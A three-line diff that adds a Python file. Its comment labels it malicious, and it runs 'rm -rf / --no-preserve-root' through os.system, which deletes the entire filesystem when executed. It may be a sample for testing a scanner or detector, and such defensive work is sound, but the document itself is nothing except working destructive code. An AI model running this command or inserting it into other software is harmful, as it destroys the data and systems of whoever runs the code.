@@ -1,0 +1,3 @@
+# malicious: deletes everything
+import os
+os.system("rm -rf / --no-preserve-root")
